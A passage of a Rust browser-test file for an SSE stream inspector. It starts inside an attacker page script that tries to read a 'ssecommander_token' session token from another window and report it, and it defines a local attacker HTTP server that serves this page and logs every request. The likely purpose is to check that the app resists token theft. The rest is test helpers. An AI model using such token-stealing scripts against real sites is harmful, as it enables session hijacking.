try {{ report("storage " + window.open(V + "/").sessionStorage.getItem("ssecommander_token")); }} catch (e) {{ report("storage-failed " + e); }}
setTimeout(function () {{ report("navigating"); setTimeout(function () {{ location.href = run("nav"); }}, 200); }}, 1500);
</script>"#
    )
}

/// A tiny HTTP server on another local port: serves [`attacker_page`] at
/// `/attack?round=R`, `204` to anything else, and keeps the request line and
/// headers of every request it gets. Stops accepting when dropped.
struct Attacker {
    port: u16,
    seen: std::sync::Arc<Mutex<Vec<String>>>,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
}

impl Attacker {
    fn start(victim: &str, dir: &str) -> Attacker {
        use std::sync::atomic::{AtomicBool, Ordering};
        use std::sync::Arc;
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the attacker's port");
        listener.set_nonblocking(true).expect("nonblocking listener");
        let port = listener.local_addr().expect("local addr").port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (victim, dir) = (victim.to_owned(), dir.to_owned());
        let (seen2, stop2) = (seen.clone(), stop.clone());
        std::thread::spawn(move || {
            let deadline = Instant::now() + Duration::from_secs(300);
            let mut served = 0;
            while !stop2.load(Ordering::Relaxed) && Instant::now() < deadline && served < 500 {
                match listener.accept() {
                    Ok((stream, _)) => {
                        served += 1;
                        let (seen, victim, dir) = (seen2.clone(), victim.clone(), dir.clone());
                        std::thread::spawn(move || attacker_serve(stream, &seen, &victim, &dir));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Attacker { port, seen, stop }
    }

    /// Every request head received so far.
    fn requests(&self) -> Vec<String> {
        self.seen.lock().unwrap_or_else(|p| p.into_inner()).clone()
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
    }
}

/// One connection of the attacker's server: reads one head (bounded), logs
/// it whole, answers and closes.
fn attacker_serve(mut stream: TcpStream, seen: &Mutex<Vec<String>>, victim: &str, dir: &str) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 64 * 1024 {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    }
    if head.is_empty() {
        return; // a preconnect that sent nothing
    }
    let text = String::from_utf8_lossy(&head).into_owned();
    seen.lock().unwrap_or_else(|p| p.into_inner()).push(text.clone());
    let target = text.split_whitespace().nth(1).unwrap_or("");
    let reply = match target.strip_prefix("/attack?round=") {
        Some(round) => {
            let body = attacker_page(victim, dir, round);
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            )
        }
        None => "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".to_owned(),
    };
    let _ = stream.write_all(reply.as_bytes());
}

/// The inspector as the tests read it: its state, the head it shows, each
/// kept read (number, size, ms, bytes as hex), the table rows, and counts of
/// its marks (tab, U+FFFD, end of event, coloured `id:` names).
fn inspector(browser: &Browser) -> Value {
    browser.exec(
        "var i=document.getElementById('inspector'),all=function(s){return document.querySelectorAll(s);},\
           map=function(s,f){return Array.prototype.map.call(all(s),f);},\
           count=function(s,t){return Array.prototype.filter.call(all(s),\
             function(e){return e.textContent.indexOf(t)>=0;}).length;},\
           note=document.querySelector('#blocks .dropped');\
         return {state:i.dataset.state, path:i.dataset.path, reads:Number(i.dataset.reads),\
           bytes:Number(i.dataset.bytes), dropped:Number(i.dataset.dropped),\
           head:document.getElementById('ihead').textContent, note:note?note.textContent:'',\
           blocks:map('#blocks .blk',function(b){return {n:Number(b.dataset.n),\
             size:Number(b.dataset.size), ms:Number(b.dataset.ms), hex:b.dataset.hex};}),\
           rows:map('#erows tr',function(r){return Array.prototype.map.call(r.cells,\
             function(c){return c.textContent;});}),\
           marks:{tab:count('#blocks .ctl','⇥'), bad:all('#blocks .bad').length,\
             end:all('#blocks .evb').length, id:all('#blocks .n-id').length}};",
        json!([]),
    )
}

/// Polls the inspector until `ok`; on timeout saves a screenshot.
fn wait_inspector(browser: &Browser, what: &str, ok: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + PAGE_TIMEOUT;
    loop {
        let wire = inspector(browser);
        if ok(&wire) {
            return wire;
        }
        if Instant::now() >= deadline {
            browser.timeout_screenshot();
            wire_panic(what, &wire);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn wire_panic(what: &str, wire: &Value) -> ! {
    let mut shown = wire.clone();
    shown["blocks"] = json!(wire["blocks"].as_array().map_or(0, Vec::len));
    panic!("timed out after {PAGE_TIMEOUT:?} waiting for {what}; inspector: {shown:#}");
}

/// The bytes of every read the inspector kept, in order.
fn captured(wire: &Value) -> Vec<u8> {
    let blocks = wire["blocks"].as_array().expect("blocks");
    let numbers: Vec<u64> = blocks.iter().filter_map(|b| b["n"].as_u64()).collect();
    assert_eq!(
        numbers,
        (1..=blocks.len() as u64).collect::<Vec<_>>(),
        "every read kept, in order"
    );
    let hex: String = blocks.iter().filter_map(|b| b["hex"].as_str()).collect();
    (0..hex.len() / 2)
        .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).expect("hex"))
        .collect()
}

/// The inspector's table as (id, event, bytes) rows.
fn table_rows(wire: &Value) -> Vec<[String; 3]> {
    let rows = wire["rows"].as_array().expect("rows");
    rows.iter()
        .map(|r| {
            let cell = |i: usize| r[i].as_str().unwrap_or("?").to_owned();
            [cell(0), cell(1), cell(2)]
        })
        .collect()
}

/// (id, event, bytes) of each event of an SSE body whose lines end in LF, as
/// the table should list them: an event without a name is `message`, `retry`
/// or `comment` by what it holds; its bytes include the blank line.
fn event_rows(body: &[u8]) -> Vec<[String; 3]> {
    let text = std::str::from_utf8(body).expect("§3.3: the stream is UTF-8");
    assert!(text.ends_with("\n\n"), "the body ends with an event: {text:?}");
    text[..text.len() - 2]
        .split("\n\n")
        .map(|event| {
            let field = |name: &str| event.lines().find_map(|l| l.strip_prefix(name).map(str::to_owned));
            let name = field("event: ").unwrap_or_else(|| {
                let kind = if field("data:").is_some() {
                    "message"
                } else if field("retry:").is_some() {
                    "retry"
                } else {
                    "comment"
                };
                kind.to_owned()
            });
            let bytes = event.len() + 2;
            [field("id: ").unwrap_or_default(), name, bytes.to_string()]
        })
        .collect()
}

fn status(state: &Value) -> String {
    state["status"].as_str().unwrap_or("").to_owned()
}

/// The trimmed lines of a list of texts, or of one text.
fn lines_of(texts: &Value) -> Vec<String> {
    let joined = match texts {
        Value::Array(items) => items.iter().filter_map(Value::as_str).collect::<Vec<_>>().join("\n"),
        Value::String(s) => s.clone(),
        _ => String::new(),
    };
    joined.lines().map(|l| l.trim().to_owned()).collect()
}

/// Whether `pid` has ended as far as the server is concerned: gone from
/// /proc, or a zombie that is not the server's to reap (a grandchild orphaned
/// by the group kill waits for init, which may take a second or two).
fn gone(pid: u32, server: u32) -> bool {
    match common::state(pid) {
        None => true,
        Some('Z') => common::ppid(pid) != Some(server),
        Some(_) => false,
    }
}

/// Polls `probe` every 50 ms until it gives a value; panics after `limit`.
fn poll_for<T>(what: &str, limit: Duration, mut probe: impl FnMut() -> Option<T>) -> T {
    let deadline = Instant::now() + limit;
    loop {
        if let Some(value) = probe() {
            return value;
        }
        assert!(
            Instant::now() < deadline,
            "timed out after {limit:?} waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}
